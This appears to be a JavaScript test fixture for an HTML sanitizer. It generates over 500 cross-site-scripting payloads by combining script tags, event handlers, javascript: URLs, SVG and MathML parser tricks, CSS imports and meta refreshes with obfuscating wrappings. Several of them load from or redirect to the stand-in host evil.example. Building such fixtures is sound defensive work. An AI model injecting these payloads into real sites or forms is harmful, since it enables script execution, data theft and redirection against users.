// Hostile HTML, as mails and forms bring it: each way in which a text may try to act, load or escape, in several wrappings.
// Whatever runs says so by calling `parent.hacked()` or by asking for something from `evil.example`.
const act = ['alert(1)', 'parent.hacked()', "fetch('//evil.example')", "top.location='//evil.example'"];

const ways = (js) => [
  `<script>${js}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror="${js}">`,
  `<img src=//evil.example/pixel.gif>`,
  `<img srcset="//evil.example/a.png 1x">`,
  `<svg onload="${js}">`,
  `<svg><script>${js}</script></svg>`,
  `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload='${js}'/>#x"/></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${js}">`,
  `<math href="javascript:${js}">x</math>`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  `<iframe src=//evil.example></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<embed src=//evil.example/x.swf>`,
  `<a href="javascript:${js}">click</a>`,
  `<a href=" &#106;avascript:${js}">click</a>`,
  `<a href="java\tscript:${js}">click</a>`,
  `<a href="data:text/html,<script>${js}</script>">click</a>`,
  `<a href="vbscript:${js}">click</a>`,
  `<form action="javascript:${js}"><input type=submit autofocus onfocus="${js}"></form>`,
  `<button formaction="javascript:${js}">x</button>`,
  `<body onload="${js}">`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>*{background:url(//evil.example/x.png)}</style>`,
  `<div style="background:url(//evil.example/x.png)">x</div>`,
  `<div style="width:expression(${js})">x</div>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=prefetch href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<video src=//evil.example/v onerror="${js}" autoplay></video>`,
  `<audio src=//evil.example/a onerror="${js}"></audio>`,
  `<details open ontoggle="${js}">x</details>`,
  `<marquee onstart="${js}">x</marquee>`,
  `<template><script>${js}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<textarea><img src=x onerror="${js}"></textarea>`,
  `<title><img src=x onerror="${js}"></title>`,
  `<!--><img src=x onerror="${js}">-->`,
  `<![CDATA[><img src=x onerror="${js}">]]>`,
  `<input type=image src=//evil.example/i.png onerror="${js}">`,
  `<table background=//evil.example/t.png><td>x</table>`,
  `<p onclick="${js}" onmouseover="${js}">x</p>`,
];

const wrappings = [
  (html) => html,
  (html) => `<div><b>${html}</b></div>`,
  (html) => html.replaceAll('<', '<\0'),
  (html) => html.toUpperCase().replaceAll('PARENT.HACKED', 'parent.hacked'),
];

/** More than 500 hostile texts. */
export const hostile = act.flatMap((js) => wrappings.flatMap((wrap) => ways(js).map(wrap)));
